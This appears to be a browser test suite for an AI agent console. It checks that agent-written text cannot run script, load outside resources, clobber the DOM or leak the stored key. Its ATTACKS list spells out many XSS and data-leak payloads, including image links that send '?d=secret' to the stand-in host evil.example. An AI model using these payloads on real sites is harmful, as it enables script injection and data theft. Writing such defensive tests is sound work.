import { appendFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { eventually } from '../rig/wait.ts'
import { answerWith, builtConsole, openConsole, startBrowser } from './browser.ts'

// A browser on a busy machine takes its time; what a test waits for has limits of its own.
vi.setConfig({ testTimeout: 90_000 })

let browser: Browser
beforeAll(async () => {
  await builtConsole()
  browser = await startBrowser()
}, 120_000)
afterAll(() => browser.close())

const EVIL = 'http://evil.example'
const ATTACKS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  `<img src="${EVIL}/1.png" srcset="${EVIL}/2.png 2x">`,
  `![picture](${EVIL}/3.png?d=secret "title")`,
  `![picture][ref]\n\n[ref]: ${EVIL}/4.png`,
  `![x](${EVIL}/5.png" onerror="window.hacked=1)`,
  `<picture><source srcset="${EVIL}/6.png"><img src="${EVIL}/7.png"></picture>`,
  `<video src="${EVIL}/8.mp4" poster="${EVIL}/9.png" autoplay></video><audio src="${EVIL}/10.mp3" autoplay></audio>`,
  `<table background="${EVIL}/11.png"><tr><td background="${EVIL}/12.png">x</td></tr></table>`,
  `<p style="background:url(${EVIL}/13.png);position:fixed;inset:0">overlay</p>`,
  `<svg onload="window.hacked = 1"><image href="${EVIL}/14.png"/><use href="${EVIL}/15.svg#a"/><animate onbegin="window.hacked = 1"/></svg>`,
  `<link rel="stylesheet" href="${EVIL}/16.css"><style>@import "${EVIL}/17.css";</style>`,
  `<iframe src="${EVIL}/18.html" srcdoc="<script>parent.hacked = 1</script>"></iframe>`,
  `<object data="${EVIL}/19"></object><embed src="${EVIL}/20">`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<details open ontoggle="window.hacked = 1"><summary>more</summary></details>',
  '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>1</script>)',
  '<a href="jav&#x09;ascript:window.hacked=1">d</a> <a href="vbscript:x">e</a> <a href="/api/chat/tasks">f</a>',
  `<a href="//evil.example/x" target="_top" ping="${EVIL}/21">g</a> <a href="vscode://x">h</a> <a href="tel:1">i</a>`,
  `<form action="${EVIL}/22"><input name="password" type="password"><button formaction="${EVIL}/23">go</button></form>`,
  '<a id="GHOST_API_KEY" name="config">clobber</a><img name="body"><form id="app"></form>',
  `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/24">`,
  `<input type="image" src="${EVIL}/25.png"><body background="${EVIL}/26.png"><bgsound src="${EVIL}/27">`,
  '<dialog open>sign in</dialog><div class="remedy" id="app" role="alert" tabindex="0">fake</div>',
  `\`\`\`xml\n<img src="${EVIL}/28.png" onerror="window.hacked=1">\n\`\`\``,
  `- in a list\n  \`\`\`"><img src=x onerror=window.hacked=1>\n  <img src="${EVIL}/29.png">\n  \`\`\``,
  'autolinks: https://example.com/fine <javascript:window.hacked=1> mail@example.com',
]

const words = (page: Page) => page.locator('article[aria-label="Agent"] .words')

describe('what an agent writes', () => {
  test('A84, A85, A86, A87: runs nothing and loads nothing, however it tries', async () => {
    await using world = await openConsole(browser)
    const { page, requests, wire } = world
    const before = requests.length
    await answerWith(world, ATTACKS.join('\n\n'))
    await page.getByText('autolinks:').waitFor()
    // A round trip through the page's own network, after which anything that was going to load has begun to.
    await page.evaluate("fetch('/healthz').then(() => new Promise(requestAnimationFrame))")
    expect(requests.filter((url) => !url.startsWith(wire.url) && !/^(?:data|blob):/.test(url))).toEqual([])
    const own = new Set(
      requests.slice(before).map((url) => new URL(url).pathname.split('/').slice(0, 3).join('/')),
    )
    expect(
      [...own].filter(
        (path) => !/^\/(?:api\/chat|readyz|healthz|sw\.js|offline\.html|icons\/|assets\/)/.test(path),
      ),
    ).toEqual([])
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    expect(world.complaints).toEqual([])
    const body = words(page)
    for (const gone of [
      'script',
      'style',
      'iframe',
      'form',
      'input',
      'svg:not(button svg)',
      'video',
      'object',
      'dialog',
      'link',
      'meta',
      'base',
      '[style]',
      '[onerror]',
      '[id]',
      '[name]',
      '[role="alert"]',
    ])
      expect([gone, await body.locator(gone).count()]).toEqual([gone, 0])
    expect(await body.locator('img').count()).toBe(0)
  })

  test('A88: links only to where a person can see that they go', async () => {
    await using world = await openConsole(browser)
    await answerWith(world, ATTACKS.join('\n\n'))
    const links = await words(world.page).locator('a[href]').all()
    expect(links.length).toBeGreaterThan(5)
    for (const link of links) {
      expect(await link.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:)/)
      expect(await link.getAttribute('target')).toBe('_blank')
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
  })

  test('A85: says of a picture from elsewhere what it would load', async () => {
    await using world = await openConsole(browser)
    await answerWith(world, `![a chart](${EVIL}/chart.png?d=1)`)
    const link = world.page.getByRole('link', { name: 'image: a chart · evil.example' })
    expect(await link.getAttribute('title')).toContain(`${EVIL}/chart.png?d=1`)
  })

  test('shows a picture that is in the text itself', async () => {
    await using world = await openConsole(browser)
    const pixel =
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    await answerWith(world, `![dot](data:image/png;base64,${pixel})`)
    await world.page.getByRole('img', { name: 'dot' }).waitFor()
    expect(world.complaints).toEqual([])
  })
})

describe('the key', () => {
  test('A11, A15: is gone from the address bar and from the history', async () => {
    await using world = await openConsole(browser)
    const { page, wire } = world
    expect(page.url()).toBe(`${wire.url}/`)
    await page.goto('about:blank')
    await page.goBack()
    expect(page.url()).toBe(`${wire.url}/`)
    await page.getByRole('textbox', { name: 'Message' }).waitFor()
  })

  test('A13, A16: is kept by nothing in the browser', async () => {
    await using world = await openConsole(browser)
    const { page, rig } = world
    await answerWith(world, 'hello')
    await page.evaluate('navigator.serviceWorker.ready.then(() => 0)')
    await page.reload()
    await page.getByText('hello').waitFor()
    expect(await page.evaluate('navigator.serviceWorker.controller !== null')).toBe(true)
    const kept = await page.evaluate(`(async () => {
      const texts = [JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie]
      for (const name of await caches.keys()) {
        const cache = await caches.open(name)
        for (const request of await cache.keys()) texts.push(request.url, await (await cache.match(request)).text())
      }
      return texts.join(' ')
    })()`)
    expect(String(kept)).toContain('/offline.html')
    expect(String(kept)).not.toContain(rig.key)
  })
})

describe('the log', () => {
  test('A79, A80, A81: shows what it is told as text, without terminal commands', async () => {
    await using world = await openConsole(browser)
    const { page, rig } = world
    await page.getByRole('button', { name: 'Agent log' }).click()
    const log = page.getByRole('log', { name: 'Agent log' })
    await appendFile(rig.agentLog, `<img src=x onerror="window.hacked=1"> \u001b[31mred\u001b[0m a\u202eb\n`)
    await eventually('the line', async () => /red a⟨U\+202E⟩b/.test((await log.textContent()) ?? ''))
    expect(await log.textContent()).toContain('<img src=x onerror="window.hacked=1">')
    expect(await log.locator('img').count()).toBe(0)
  })
})
